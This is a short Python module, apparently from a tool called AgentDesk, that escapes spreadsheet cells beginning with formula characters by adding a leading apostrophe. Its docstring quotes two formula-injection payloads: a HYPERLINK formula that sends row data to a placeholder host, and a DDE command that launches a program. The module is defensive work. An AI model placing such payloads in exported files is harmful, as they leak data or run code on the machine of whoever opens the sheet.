"""One rule for every text cell AgentDesk writes to a file a supervisor opens in Excel or WPS.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by a spreadsheet
as a formula (`=HYPERLINK("http://x/?"&A1, "点我")` sends the row away; `+cmd|' /C calc'!A0`
runs a program). A customer's name, a note from a customer book or an agent's text can start
so. Such a cell is written with a leading `'` (OWASP's advice): the spreadsheet shows the text
and runs nothing. Numbers AgentDesk formats itself are not text cells and are left alone.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet must show it: text that would start a formula gets a `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


__all__ = ["FORMULA_STARTS", "safe_cell"]
